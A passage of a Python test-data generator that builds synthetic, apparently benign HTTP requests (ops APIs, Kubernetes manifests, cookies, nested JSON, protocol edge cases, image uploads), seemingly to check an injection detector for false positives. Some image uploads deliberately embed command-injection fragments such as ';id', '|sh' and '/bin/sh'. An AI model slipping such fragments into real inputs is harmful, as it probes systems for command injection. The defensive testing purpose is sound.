        elif kind == 1:
            raw = mk("PUT", f"/api/v4/projects/{R.randint(1, 900)}/wikis/setup-guide", hdrs_api(host, ctype="application/json"),
                     json.dumps({"content": md, "format": "markdown", "title": title}))
            d = "wiki page update (markdown in JSON)"
        elif kind == 2:
            raw = mk("PUT", f"/api/docs/pages/{i}", hdrs_api(host, ctype="text/markdown; charset=utf-8", accept="*/*"), md)
            d = "raw markdown body PUT"
        elif kind == 3:
            snip = pick(TUTORIAL_SNIPPETS)[1]
            c = f"Works for me on Ubuntu 22.04. I ran\n\n```\n{snip}\n```\n\nand it printed the expected output. Thanks @maintainer!"
            raw = mk("POST", f"/api/v4/projects/12/issues/{R.randint(1, 500)}/notes", hdrs_api(host, ctype="application/json"), json.dumps({"body": c}))
            d = "issue comment quoting a shell command"
        elif kind == 4:
            cells = [{"cell_type": "markdown", "metadata": {}, "source": ["# Setup\n", "Install deps first\n"]},
                     {"cell_type": "code", "execution_count": 1, "metadata": {}, "outputs": [], "source": ["!pip install pandas\n", "!ls -la data/\n"]},
                     {"cell_type": "code", "execution_count": 2, "metadata": {}, "outputs": [{"name": "stdout", "output_type": "stream", "text": ["uid=1000(jovyan) gid=100(users)\n"]}], "source": ["!id\n"]}]
            nb = {"cells": cells, "metadata": {"kernelspec": {"name": "python3", "display_name": "Python 3"}}, "nbformat": 4, "nbformat_minor": 5}
            raw = mk("PUT", f"/api/contents/work/analysis-{i}.ipynb", hdrs_api("jupyter.internal.example.com", ua=pick(BROWSER_UAS), ctype="application/json"),
                     json.dumps({"type": "notebook", "format": "json", "content": nb}))
            d = "Jupyter notebook save with shell-escape cells"
        else:
            body = form([("title", title), ("content", md), ("action", "editpost"), ("post_ID", str(1000 + i)), ("_wpnonce", "%010x" % R.getrandbits(40))])
            raw = mk("POST", "/wp-admin/post.php", hdrs_browser(host, referer=f"https://{host}/wp-admin/post.php?post={1000 + i}&action=edit",
                                                                extra=[("Content-Type", "application/x-www-form-urlencoded"), ("Origin", f"https://{host}")]), body)
            d = "classic CMS editor form save with tutorial content"
        out.append(("docs_code_fences", d, raw))
    return out


def k8s_pod(name, image, cmd, args=None, probe=None):
    c = {"name": name, "image": image, "command": cmd}
    if args:
        c["args"] = args
    if probe:
        c["livenessProbe"] = {"exec": {"command": probe}, "initialDelaySeconds": 5, "periodSeconds": 10}
    c["resources"] = {"requests": {"cpu": "100m", "memory": "128Mi"}}
    return {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": name, "namespace": "default", "labels": {"app": name}},
            "spec": {"containers": [c], "restartPolicy": "Never"}}


def to_yaml(o, ind=0):
    """Tiny YAML emitter, enough for manifests built here."""
    sp = "  " * ind
    lines = []
    if isinstance(o, dict):
        for k, v in o.items():
            if isinstance(v, (dict, list)) and v:
                if isinstance(v, list) and all(isinstance(x, str) for x in v):
                    lines.append(f"{sp}{k}: [" + ", ".join(json.dumps(x) for x in v) + "]")
                else:
                    lines.append(f"{sp}{k}:")
                    lines.append(to_yaml(v, ind + 1))
            else:
                lines.append(f"{sp}{k}: {json.dumps(v) if isinstance(v, str) else ('null' if v is None else str(v).lower() if isinstance(v, bool) else v)}")
    elif isinstance(o, list):
        for v in o:
            if isinstance(v, dict):
                sub = to_yaml(v, ind + 1).split("\n")
                lines.append(f"{sp}- " + sub[0].lstrip())
                lines += sub[1:]
            else:
                lines.append(f"{sp}- {json.dumps(v)}")
    return "\n".join(lines)


def b_ops():
    out = []
    host_k8s = ["kubernetes.default.svc", "deploy-api.platform.svc.cluster.local:8443", "ci.internal.example.net"]
    for i in range(120):
        kind = i % 10
        host = pick(HOSTS_INTERNAL)
        if kind == 0:
            body = {"name": f"job-{i}", "interpreter": pick(["/bin/bash", "/usr/bin/python3", "/bin/sh", "/usr/bin/env node"]),
                    "script_path": f"/opt/jobs/job_{i}.sh", "timeout_s": 300}
            raw = mk("POST", "/api/v1/jobs", hdrs_api(host, ctype="application/json"), json.dumps(body))
            d = "job definition with interpreter path"
        elif kind == 1:
            body = {"path": pick(["/usr/bin/python3", "/usr/local/bin/node", "/bin/bash", "/usr/sbin/nginx", "/opt/app/bin/server"]),
                    "sha256": "%064x" % R.getrandbits(256), "mode": "0755", "owner": "root"}
            raw = mk("POST", "/api/v1/inventory/binaries", hdrs_api(host, ctype="application/json"), json.dumps(body))
            d = "binary inventory record with path"
        elif kind == 2:
            p = k8s_pod(f"hello-{i}", pick(["busybox:1.36", "alpine:3.19", "debian:bookworm-slim"]), ["/bin/sh", "-c", "echo hello"])
            raw = mk("POST", "/api/v1/namespaces/default/pods", hdrs_api(pick(host_k8s), ua="kubectl/v1.29.3 (linux/amd64) kubernetes/6813625", ctype="application/json"), json.dumps(p))
            d = "Kubernetes Pod create JSON with sh -c echo"
        elif kind == 3:
            p = k8s_pod(f"web-{i}", "nginx:1.25", ["nginx", "-g", "daemon off;"], probe=["cat", "/tmp/healthy"])
            dep = {"apiVersion": "apps/v1", "kind": "Deployment", "metadata": {"name": f"web-{i}"},
                   "spec": {"replicas": 2, "selector": {"matchLabels": {"app": f"web-{i}"}}, "template": {"metadata": {"labels": {"app": f"web-{i}"}}, "spec": p["spec"]}}}
            raw = mk("POST", "/apis/apps/v1/namespaces/shop/deployments", hdrs_api(pick(host_k8s), ua="kubectl/v1.29.3 (linux/amd64) kubernetes/6813625", ctype="application/yaml"), to_yaml(dep) + "\n")
            d = "Kubernetes Deployment YAML with exec liveness probe cat /tmp/healthy"
        elif kind == 4:
            cj = {"apiVersion": "batch/v1", "kind": "CronJob", "metadata": {"name": "db-backup"},
                  "spec": {"schedule": "0 3 * * *", "jobTemplate": {"spec": {"template": {"spec": {"restartPolicy": "OnFailure", "containers": [
                      {"name": "backup", "image": "postgres:16", "command": ["/bin/sh", "-c"],
                       "args": ["pg_dump -h $DB_HOST -U $DB_USER shop | gzip > /backup/shop-$(date +%F).sql.gz"]}]}}}}}}
            raw = mk("PUT", "/apis/batch/v1/namespaces/shop/cronjobs/db-backup", hdrs_api(pick(host_k8s), ctype="application/json"), json.dumps(cj))
            d = "Kubernetes CronJob with backup shell pipeline"
        elif kind == 5:
            body = {"Image": "alpine:3.19", "Cmd": ["/bin/sh", "-c", "nginx -g 'daemon off;'"], "Env": ["TZ=UTC", "PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"],
                    "HostConfig": {"Binds": ["/srv/www:/usr/share/nginx/html:ro"]}}
            raw = mk("POST", "/v1.44/containers/create?name=web%d" % i, hdrs_api("docker.internal.example.com:2376", ua="docker/25.0.3 go/go1.21.6 git-commit/f417435 kernel/6.5.0 os/linux arch/amd64 UpstreamClient(Docker-Client/25.0.3 \\(linux\\))", ctype="application/json"), json.dumps(body))
            d = "Docker engine container create with Cmd sh -c"
        elif kind == 6:
            unit = {"unit": "app.service", "ExecStart": "/usr/local/bin/app --port 8080 --config /etc/app/config.yaml",
                    "ExecReload": "/bin/kill -HUP $MAINPID", "User": "app", "Restart": "on-failure"}
            raw = mk("PUT", "/api/hosts/web-%02d/units/app.service" % (i % 20), hdrs_api(host, ctype="application/json"), json.dumps(unit))
            d = "systemd unit config via ops API (kill -HUP $MAINPID)"
        elif kind == 7:
            tasks = [{"name": "install packages", "apt": {"name": ["nginx", "curl"], "state": "present"}},
                     {"name": "check version", "command": "/usr/sbin/nginx -v", "register": "nginx_version"},
                     {"name": "reload", "shell": "nginx -t && systemctl reload nginx"}]
            raw = mk("POST", "/api/v2/job_templates/%d/launch/" % (10 + i), hdrs_api("awx.internal.example.com", ctype="application/json"), json.dumps({"extra_vars": {"tasks": tasks, "target": "web"}}))
            d = "automation job launch with task shell lines"
        elif kind == 8:
            body = {"runbook": "disk-full", "steps": [{"title": "Check usage", "cmd": "df -h /var"}, {"title": "Largest dirs", "cmd": "du -xh /var | sort -rh | head -20"},
                                                        {"title": "Rotate", "cmd": "logrotate -f /etc/logrotate.conf"}]}
            raw = mk("POST", "/api/runbooks", hdrs_api(host, ctype="application/json"), json.dumps(body))
            d = "runbook with diagnostic commands"
        else:
            y = ("apiVersion: v1\nkind: Pod\nmetadata:\n  name: debug-%d\nspec:\n  containers:\n  - name: shell\n    image: busybox:1.36\n"
                 "    command: [\"/bin/sh\", \"-c\", \"echo hello; sleep 3600\"]\n    env:\n    - name: SHELL\n      value: /bin/bash\n" % i)
            raw = mk("POST", "/api/v1/namespaces/dev/pods", hdrs_api(pick(host_k8s), ua="kubectl/v1.28.7 (darwin/arm64) kubernetes/c8dcb00", ctype="application/yaml"), y)
            d = "Kubernetes Pod YAML with sh -c echo + sleep"
        out.append(("ops_api", d, raw))
    return out


def b_json_nested():
    out = []
    for i in range(85):
        host = pick(ALL_HOSTS)
        kind = i % 7
        if kind == 0:
            inner = {"orderId": i, "items": [{"sku": "A-1", "qty": 2}], "note": "leave at door; ring bell"}
            body = {"type": "order.created", "payload": json.dumps(inner), "ts": 1715000000 + i}
            d = "JSON-in-JSON event payload string"
        elif kind == 1:
            inner = json.dumps({"q": "{x}", "arr": [1, 2, {"k": "v"}]})
            body = json.dumps(inner)  # double-encoded -> top-level JSON string
            raw = mk("POST", "/api/queue/push", hdrs_api(host, ctype="application/json"), body)
            out.append(("json_nested", "double-encoded JSON (top-level string)", raw))
            continue
        elif kind == 2:
            body = {"message": "Line one\nLine two with {braces} and [brackets]\n\tindented } closing", "channel": "#ops", "user": "maria"}
            d = "newlines, tabs and braces inside JSON string"
        elif kind == 3:
            body = {"template": "Hello {name}, your order {{order_id}} ships {when}.", "locale": "en-GB", "vars": {"name": "Jo", "when": "today"}}
            d = "format placeholders in JSON string"
        elif kind == 4:
            body = {"query": {"bool": {"must": [{"match": {"title": "select * from the best"}}], "filter": [{"range": {"price": {"gte": 10, "lte": 100}}}]}},
                    "aggs": {"by_brand": {"terms": {"field": "brand.keyword", "size": 10}}}}
            d = "Elasticsearch query DSL"
        elif kind == 5:
            body = {"records": [{"Data": base64.b64encode(json.dumps({"event": "click", "x": R.randint(0, 999)}).encode()).decode(), "PartitionKey": str(i)} for _ in range(5)],
                    "StreamName": "clicks"}
            d = "base64 JSON records (Kinesis-style)"
        else:
            body = {"text": "JSON inside JSON inside JSON: " + json.dumps(json.dumps({"a": "b\"c\\d", "e": "\u00e9\u4e2d"})), "emoji": "\U0001F600", "escaped": "</script>-safe text"}
            d = "escaped quotes, backslashes and unicode"
        raw = mk("POST", pick(["/api/events", "/v1/messages", "/ingest", "/api/notifications", "/api/search/_search"]), hdrs_api(host, ctype="application/json"), json.dumps(body))
        out.append(("json_nested", d, raw))
    return out


def ga_cookie_set(n):
    t = 1715000000 + R.randint(0, 5000000)
    consent = json.dumps({"necessary": True, "analytics": R.random() < 0.5, "marketing": False, "ts": t})
    cookies = [
        ("_ga", f"GA1.2.{R.randint(10**8, 10**9)}.{t}"), ("_gid", f"GA1.2.{R.randint(10**8, 10**9)}.{t + 10}"),
        ("_ga_Q2X8V7LRB1", f"GS1.1.{t}.3.1.{t + 120}.0.0.0"), ("_fbp", f"fb.1.{t}123.{R.randint(10**8, 10**10)}"),
        ("ajs_user_id", quote(json.dumps("u_%d" % R.randint(1000, 99999)), safe="")),
        ("ajs_anonymous_id", quote(json.dumps("%08x-%04x-%04x-%04x-%012x" % (R.getrandbits(32), R.getrandbits(16), R.getrandbits(16), R.getrandbits(16), R.getrandbits(48))), safe="")),
        ("cookie_consent", quote(consent, safe="")),
        ("OptanonConsent", "isGpcEnabled=0&datestamp=" + quote("Mon May 06 2024 10:1%d:00 GMT+0200" % (n % 10), safe="") + "&version=202403.1.0&groups=" + quote("C0001:1,C0002:0,C0003:1,C0004:0", safe="")),
        ("CookieConsent", quote("{stamp:'%s',necessary:true,preferences:true,statistics:false,marketing:false,method:'explicit',ver:1}" % base64.b64encode(bytes(R.getrandbits(8) for _ in range(18))).decode(), safe="")),
        ("_hjSessionUser_3812", base64.b64encode(json.dumps({"id": "%016x" % R.getrandbits(64), "created": t * 1000, "existing": True}).encode()).decode().rstrip("=")),
        ("_hjSession_3812", base64.b64encode(json.dumps({"id": "%016x" % R.getrandbits(64), "c": t * 1000, "s": 0, "r": 0, "sb": 0}).encode()).decode().rstrip("=")),
        ("mp_3a9f_mixpanel", quote(json.dumps({"distinct_id": "u%d" % n, "$device_id": "18f%x" % R.getrandbits(40), "$initial_referrer": "$direct"}), safe="")),
        ("_gcl_au", f"1.1.{R.randint(10**8, 10**10)}.{t}"), ("_uetsid", "%032x" % R.getrandbits(128)), ("_uetvid", "%032x" % R.getrandbits(128)),
        ("intercom-id-abc123", "%08x-%04x-%04x" % (R.getrandbits(32), R.getrandbits(16), R.getrandbits(16))),
        ("cart", quote(json.dumps({"items": [{"id": 17, "q": 1}, {"id": 9, "q": 3}], "cur": "EUR"}), safe="")),
        ("recently_viewed", quote("sku-1|sku-22|sku-333", safe="")), ("theme", "dark"), ("lang", pick(["en", "de", "fr-CA"])),
        ("session", base64.urlsafe_b64encode(bytes(R.getrandbits(8) for _ in range(48))).decode().rstrip("=")),
        ("csrftoken", "%032x" % R.getrandbits(128)), ("tz", quote("Europe/Berlin", safe="")), ("ab_test", "checkout_v2:B|pricing:A"),
        ("_clck", f"1x9y2z%7C2%7Cflk%7C0%7C{R.randint(1000, 9999)}"), ("_pin_unauth", base64.b64encode(json.dumps({"v": 1}).encode()).decode()),
        ("__stripe_mid", "%08x-%04x-%04x-%04x-%012x" % (R.getrandbits(32), R.getrandbits(16), R.getrandbits(16), R.getrandbits(16), R.getrandbits(48))),
        ("last_search", quote("rock|paper & scissors; who am i", safe="")),
    ]
    k = min(len(cookies), n)
    chosen = R.sample(cookies, k)
    return "; ".join(f"{a}={b}" for a, b in chosen)


def b_cookies():
    out = []
    for i in range(90):
        host = pick(HOSTS_PUBLIC)
        n = 20 + (i % 9) if i % 3 else R.randint(6, 14)
        ck = ga_cookie_set(n)
        path = pick(["/", "/products/espresso-machine", "/account/orders", "/blog/2024/05/spring-sale", "/checkout", "/help/returns"])
        if i % 5 == 4:
            raw = mk("POST", "/cart/add", hdrs_browser(host, referer=f"https://{host}{path}", cookie=ck, extra=[("Content-Type", "application/x-www-form-urlencoded"), ("Origin", f"https://{host}")]),
                     form([("product_id", str(R.randint(1, 999))), ("qty", "1")]))
        else:
            raw = mk("GET", path, hdrs_browser(host, referer=f"https://{host}/" if R.random() < 0.6 else None, cookie=ck))
        out.append(("cookies_analytics", f"{ck.count(';') + 1} cookies incl. analytics/consent JSON", raw))
    return out


def b_structured():
    out = []
    items = [
        ("GET", "/api/items?filter%5Bname%5D=x&filter%5Bstatus%5D=active&page%5Bnumber%5D=2&page%5Bsize%5D=50&sort=-created_at&fields%5Bitems%5D=id,name", None, "JSON:API bracket params (percent-encoded brackets)"),
        ("GET", "/api/items?" + form([("filter[name]", "Tom & Jerry"), ("page[1]", "on"), ("include", "author,comments")]), None, "JSON:API bracket params encoded"),
        ("POST", "/api/calc", {"expr": "a[b/1234*c]", "vars": {"a": [1, 2, 3], "b": 2468, "c": 0.5}}, "array/math expression"),
        ("POST", "/api/calc", {"expr": "(2+3)*4/5 - sqrt(16) % 3", "precision": 4}, "arithmetic expression"),
        ("GET", "/directory/lookup?dn=" + quote("cn=john,ou=people,dc=example,dc=com", safe=""), None, "LDAP DN in query"),
        ("POST", "/api/ldap/search", {"base": "ou=people,dc=example,dc=com", "filter": "(&(objectClass=person)(mail=*@example.com))", "attrs": ["cn", "mail"]}, "LDAP filter in directory admin API"),
        ("GET", "/search?q=" + quote("rock|paper|scissors", safe=""), None, "pipes in search"),
        ("GET", "/api/tags?any=" + quote("a|b|c", safe=""), None, "pipe-separated tags"),
        ("GET", "/tv/search?title=" + quote_plus_safe("Tom & Jerry"), None, "ampersand in title"),
        ("POST", "/api/departments", {"name": "R&D", "cost_center": "CC-42; shared", "manager": "jo.smith@example.com"}, "R&D and semicolons"),
        ("GET", "/calendar?days=" + quote("Mon;Tue;Wed", safe=";"), None, "semicolon list"),
        ("POST", "/api/regex/test", {"pattern": "^[a-z0-9._%+-]+@[a-z0-9.-]+\\.[a-z]{2,}$", "input": "ann.lee+news@example.org"}, "regex in JSON"),
        ("GET", "/users?email=" + quote("first.last+tag@example.co.uk", safe="@"), None, "email in query"),
        ("POST", "/api/notes", {"text": "Meeting: 10:00-11:30; room B&C; bring laptop | charger"}, "semicolons/pipes in note"),
        ("GET", "/wiki/C%2B%2B_(programming_language)", None, "encoded + and parentheses in path"),
        ("GET", "/wiki/AT%26T", None, "encoded & in path"),
        ("GET", "/math?expr=" + quote("x^2 + 2*x*y + y^2 = (x+y)^2", safe=""), None, "algebra in query"),
        ("POST", "/api/sheets/cells", {"A1": "=SUM(B1:B10)*2", "A2": "=IF(C1>0;\"yes\";\"no\")", "A3": "=VLOOKUP(D1,Sheet2!A:B,2,FALSE)"}, "spreadsheet formulas"),
        ("GET", "/api/geo?bbox=" + quote("-0.489,51.28,0.236,51.686", safe=","), None, "bbox coordinates"),
        ("GET", "/files?path=" + quote("docs/2024/Q1 report (final).pdf", safe=""), None, "file path with parentheses"),
        ("POST", "/api/translate", {"text": "C'est l'été; on va à la plage & on mange des crêpes!", "to": "en"}, "apostrophes, accents, & and ;"),
        ("GET", "/products?price=" + quote(">=10", safe="") + "&price=" + quote("<=50", safe=""), None, "comparison operators in query"),
        ("POST", "/api/code/format", {"lang": "c", "source": "int main(void){int a[3]={1,2,3};return a[1]*2;}"}, "C source in JSON"),
        ("GET", "/graph?path=" + quote("a->b->c", safe=""), None, "arrows in query"),
        ("POST", "/api/chat", {"message": "lol ;) see you at 5 :-P && don't forget the cake!!"}, "chat message with && and emoticons"),
        ("GET", "/search?q=" + quote("\"exact phrase\" -exclude site:example.com", safe=""), None, "search operators"),
        ("POST", "/api/contacts", {"name": "O'Brien, Seán", "phone": "+353 (1) 555-0100", "email": "sean.obrien@example.ie"}, "apostrophe name"),
        ("GET", "/api/v1/metrics?query=" + quote('sum(rate(http_requests_total{job="api",code=~"5.."}[5m])) by (route)', safe=""), None, "PromQL query"),
        ("GET", "/logs?q=" + quote('level:error AND service:"orders" | stats count by host', safe=""), None, "log query with pipe"),
        ("POST", "/api/sql/lint", {"dialect": "postgres", "query": "SELECT id, name FROM users WHERE created_at > now() - interval '7 days' ORDER BY id;"}, "SQL in a SQL-lint tool API"),
        ("GET", "/api/path?from=" + quote("/home/user/docs", safe="") + "&to=" + quote("/mnt/backup/docs", safe=""), None, "filesystem paths as params"),
        ("POST", "/api/markdown/render", {"md": "| col a | col b |\n|---|---|\n| 1 | 2 |\n\n* item; with semicolon\n* `inline code`"}, "markdown table with pipes"),
        ("GET", "/ldap/people?cn=" + quote("Smith, John (IT)", safe=""), None, "LDAP-ish cn value"),
        ("POST", "/api/units/convert", {"from": "ft*lb/s", "to": "W", "value": 550}, "units with * and /"),
        ("GET", "/api/search?q=" + quote("1/2 cup flour & 3/4 cup sugar", safe=""), None, "recipe fractions"),
    ]
    for i in range(115):
        meth, t, body, d = items[i % len(items)]
        host = pick(ALL_HOSTS)
        if meth == "GET":
            extra = "" if i < len(items) else ("&_=%d" % (1715000000000 + i) if "?" in t else "?_=%d" % (1715000000000 + i))
            hs = hdrs_browser(host, accept="application/json, text/plain, */*", nav=False) if t.startswith("/api") else hdrs_browser(host)
            raw = mk("GET", t + extra, hs)
        else:
            b = dict(body)
            if i >= len(items):
                b["client_ref"] = "r-%d" % i
            raw = mk(meth, t, hdrs_api(host, ctype="application/json"), json.dumps(b, ensure_ascii=(i % 2 == 0)))
        out.append(("structured_text", d, raw))
    return out


def jwt(size):
    hdr = base64.urlsafe_b64encode(json.dumps({"alg": "RS256", "typ": "JWT", "kid": "k1"}).encode()).decode().rstrip("=")
    claims = {"sub": "user-123", "iss": "https://id.example.com", "aud": "api", "exp": 1999999999, "iat": 1715000000,
              "groups": ["grp-%04d" % k for k in range(size // 12)], "scope": "openid profile email"}
    pl = base64.urlsafe_b64encode(json.dumps(claims).encode()).decode().rstrip("=")
    sig = base64.urlsafe_b64encode(bytes(R.getrandbits(8) for _ in range(256))).decode().rstrip("=")
    return f"{hdr}.{pl}.{sig}"


def b_protocol():
    out = []
    for i in range(80):
        kind = i % 16
        host = pick(ALL_HOSTS)
        if kind == 0:
            data = json.dumps({"events": [{"id": k, "type": "view", "path": "/p/%d" % k} for k in range(40)]}).encode()
            body = chunked(data, trailers=[("X-Checksum", "%08x" % (zlib.crc32(data) & 0xffffffff))])
            hs = hdrs_api(host, ctype="application/json") + [("Transfer-Encoding", "chunked"), ("Trailer", "X-Checksum")]
            raw = mk("POST", "/v1/ingest", hs, body)
            d = "chunked body with trailer"
        elif kind == 1:
            data = ("id,name\n" + "".join(f"{k},item {k}\n" for k in range(200))).encode()
            raw = mk("POST", "/upload/csv", hdrs_api(host, ctype="text/csv") + [("Transfer-Encoding", "chunked")], chunked(data))
            d = "chunked body, no trailers"
        elif kind == 2:
            data = json.dumps({"name": "big.bin", "size": 1048576}).encode()
            raw = mk("PUT", "/api/objects/big", hdrs_api(host, ctype="application/json") + [("Expect", "100-continue")], data)
            d = "Expect: 100-continue"
        elif kind == 3:
            raw = mk("GET", pick(["/index.html", "/healthz", "/", "/static/app.css", "/api/ping"]) + "?r=%d" % R.randint(1, 10**6),
                     [("Host", host), ("User-Agent", pick(["ApacheBench/2.3", "Wget/1.12 (linux-gnu)", "Lynx/2.8.9rel.1 libwww-FM/2.14"])), ("Accept", "*/*"), ("Connection", "keep-alive")], version="HTTP/1.0")
            d = "HTTP/1.0 with Connection: keep-alive"
        elif kind == 4:
            body = json.dumps({"query": {"match_all": {}}, "size": 10})
            raw = mk("GET", "/products/_search", hdrs_api(host, ctype="application/json"), body)
            d = "GET with a JSON body (Elasticsearch style)"
        elif kind == 5:
            raw = mk("GET", "/api/v1/me", hdrs_api(host, extra=[("Authorization", "Bearer " + jwt(5800))], auth=False))
            d = "~8 KiB JWT in Authorization"
        elif kind == 6:
            raw = mk("GET", "/", hdrs_browser(host, extra=[("Accept-Charset", "utf-8, iso-8859-1;q=0.5"), ("DNT", "1"), ("Cache-Control", "max-age=0")]))
            d = "Accept-Charset and cache headers"
        elif kind == 7:
            params = [("ids", ",".join(str(R.randint(1, 10**6)) for _ in range(400))), ("fields", "id,name,price,stock")]
            raw = mk("GET", "/api/products?" + form(params), hdrs_api(host))
            d = "long but legal URL (~3 KB)"
        elif kind == 8:
            extra = [("X-Custom-%02d" % k, "value-%d" % R.randint(0, 99999)) for k in range(50)]
            raw = mk("GET", "/api/health/deep", hdrs_api(host, extra=extra))
            d = "50+ request headers (at most 60)"
        elif kind == 9:
            raw = mk("OPTIONS", "*", [("Host", host), ("User-Agent", pick(CLI_UAS)), ("Accept", "*/*")])
            d = "OPTIONS * (asterisk-form)"
        elif kind == 10:
            h = pick(HOSTS_PUBLIC)
            raw = mk("GET", f"http://{h}/catalog/index.html?lang=en", [("Host", h), ("User-Agent", pick(BROWSER_UAS)), ("Accept", "*/*"), ("Proxy-Connection", "keep-alive")])
            d = "absolute-form proxy request with matching Host"
        elif kind == 11:
            h = pick(HOSTS_PUBLIC)
            raw = mk("OPTIONS", "/api/v1/orders", [("Host", h), ("Origin", "https://app.example.net"), ("Access-Control-Request-Method", "PUT"),
                                                   ("Access-Control-Request-Headers", "authorization,content-type"), ("User-Agent", pick(BROWSER_UAS)), ("Accept", "*/*")])
            d = "CORS preflight"
        elif kind == 12:
            raw = mk("GET", "/video/intro.mp4", hdrs_browser(host, accept="*/*", nav=False, extra=[("Range", "bytes=1048576-2097151"), ("If-Range", '"abc123"')]))
            d = "Range request"
        elif kind == 13:
            raw = mk("GET", "/chat/socket", [("Host", host), ("User-Agent", pick(BROWSER_UAS)), ("Upgrade", "websocket"), ("Connection", "Upgrade"),
                                             ("Sec-WebSocket-Key", base64.b64encode(bytes(R.getrandbits(8) for _ in range(16))).decode()),
                                             ("Sec-WebSocket-Version", "13"), ("Origin", f"https://{host}")])
            d = "WebSocket upgrade"
        elif kind == 14:
            raw = mk("HEAD", "/downloads/app-1.%d.%d.tar.gz" % (R.randint(0, 9), R.randint(0, 20)), [("Host", host), ("User-Agent", "Wget/1.21.4"), ("Accept", "*/*"), ("If-Modified-Since", "Tue, 07 May 2024 10:00:00 GMT")])
            d = "HEAD with conditional"
        else:
            raw = mk("DELETE", "/api/v1/sessions/current", hdrs_api(host, extra=[("If-Match", '"v7"')]), b"")
            d = "DELETE with If-Match, no body"
        out.append(("protocol_edge", d, raw))
    return out


def pb_varint(n):
    out = b""
    while True:
        b = n & 0x7f
        n >>= 7
        if n:
            out += bytes([b | 0x80])
        else:
            return out + bytes([b])


def pb_field(num, val):
    if isinstance(val, int):
        return pb_varint(num << 3) + pb_varint(val)
    if isinstance(val, str):
        val = val.encode()
    return pb_varint(num << 3 | 2) + pb_varint(len(val)) + val


def png_bytes(width, height, rows_text):
    """A valid PNG (grey8, stored deflate) whose pixel rows contain given byte strings verbatim."""
    raw = b""
    for y in range(height):
        row = bytes(R.getrandbits(8) for _ in range(width))
        if y < len(rows_text):
            t = rows_text[y]
            row = t + row[len(t):]
        raw += b"\x00" + row
    comp = zlib.compress(raw, 0)

    def chunk(t, d):
        return struct.pack(">I", len(d)) + t + d + struct.pack(">I", zlib.crc32(t + d) & 0xffffffff)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)) + chunk(b"IDAT", comp) + chunk(b"IEND", b""))


def jpeg_like(n, needle):
    """JPEG container (SOI, APP0 JFIF, DQT, SOF0, DHT, SOS ... EOI) around random entropy data with 0xFF stuffed."""
    ent = bytearray()
    for _ in range(n):
        b = R.getrandbits(8)
        ent.append(b)
        if b == 0xFF:
            ent.append(0)
    pos = len(ent) // 2
    ent[pos:pos] = needle
    app0 = b"\xff\xe0" + struct.pack(">H", 16) + b"JFIF\x00\x01\x01\x00\x00\x48\x00\x48\x00\x00"
    dqt = b"\xff\xdb" + struct.pack(">H", 67) + b"\x00" + bytes(R.randint(1, 60) for _ in range(64))
    sof = b"\xff\xc0" + struct.pack(">HBHHB", 11, 8, 64, 64, 1) + b"\x01\x11\x00"
    dht = b"\xff\xc4" + struct.pack(">H", 31) + b"\x00" + bytes([0, 1, 5, 1, 1, 1, 1, 1, 1, 0, 0, 0, 0, 0, 0, 0]) + bytes(range(12))
    sos = b"\xff\xda" + struct.pack(">HB", 8, 1) + b"\x01\x00\x00\x3f\x00"
    return b"\xff\xd8" + app0 + dqt + sof + dht + sos + bytes(ent) + b"\xff\xd9"


CHAT_LINES = ["let's grab lunch; who am i meeting at 1?", "ping me when the build is green", "cat pics or it didn't happen",
              "select the blue one & ship it", "running late, sleep 10 more min lol", "R&D sync moved to 3pm | room 4",
              "id card is at reception", "bash the numbers again pls", "rm 12 is free now", "ls 300 parts arrived"]


def b_binary():
    out = []
    for i in range(95):
        kind = i % 8
        host = pick(ALL_HOSTS)
        if kind in (0, 1, 2):
            msg = pb_field(1, "conv-%d" % R.randint(1, 10**6)) + pb_field(2, pick(CHAT_LINES)) + pb_field(3, 1715000000 + i * 37) + pb_field(4, "user-%d" % R.randint(1, 5000))
            msg += pb_field(5, pb_field(1, "web") + pb_field(2, R.randint(1, 2 ** 31)))
            frame = b"\x00" + struct.pack(">I", len(msg)) + msg
            if kind == 0:
                hs = [("Host", host), ("User-Agent", pick(BROWSER_UAS)), ("Content-Type", "application/grpc-web+proto"), ("X-Grpc-Web", "1"),
                      ("Accept", "application/grpc-web-text"), ("Origin", "https://app.example.net")]
                raw = mk("POST", "/chat.v1.ChatService/SendMessage", hs, frame)
                d = "gRPC-Web framed protobuf with text fields"
            elif kind == 1:
                hs = [("Host", host), ("Content-Type", "application/grpc"), ("TE", "trailers"), ("User-Agent", "grpc-go/1.63.2"), ("Grpc-Timeout", "5S")]
                raw = mk("POST", "/chat.v1.ChatService/SendMessage", hs, frame)
                d = "application/grpc framed protobuf (h2 request rendered as HTTP/1.1 for offline scan)"
            else:
                raw = mk("POST", "/v1/events:batch", hdrs_api(host, ctype="application/x-protobuf", accept="application/x-protobuf"), msg * 3)
                d = "plain protobuf body"
        elif kind in (3, 4):
            data = json.dumps({"events": [{"type": "page", "name": pick(SEARCH_PHRASES), "props": {"ref": "google", "q": pick(SEARCH_PHRASES)}} for _ in range(30)]}).encode()
            body = gzip.compress(data, mtime=0)
            hs = hdrs_api(host, ctype="application/json", extra=[("Content-Encoding", "gzip")])
            raw = mk("POST", "/v1/batch", hs, body)
            d = "gzip-encoded JSON body"
        elif kind == 5:
            needle = pick([b"/bin/sh", b";id", b"/bin/sh\x00;id"])
            img = png_bytes(96, 24, [bytes(R.getrandbits(8) for _ in range(7)) + needle])
            ctype, body = multipart([([("Content-Disposition", 'form-data; name="title"')], "holiday pic"),
                                     ([("Content-Disposition", f'form-data; name="photo"; filename="IMG_{R.randint(1000, 9999)}.png"'), ("Content-Type", "image/png")], img)])
            raw = mk("POST", "/api/photos", hdrs_browser(host, accept="application/json", nav=False, extra=[("Content-Type", ctype)]), body)
            d = f"PNG upload whose pixel bytes contain {needle!r}"
        elif kind == 6:
            needle = pick([b"/bin/sh", b";id", b"|sh"])
            img = jpeg_like(3000 + R.randint(0, 3000), needle)
            ctype, body = multipart([([("Content-Disposition", f'form-data; name="file"; filename="scan_{i}.jpg"'), ("Content-Type", "image/jpeg")], img)])
            raw = mk("POST", "/upload", hdrs_browser(host, accept="application/json", nav=False, extra=[("Content-Type", ctype)]), body)
            d = f"JPEG upload whose entropy bytes contain {needle!r}"
        else:
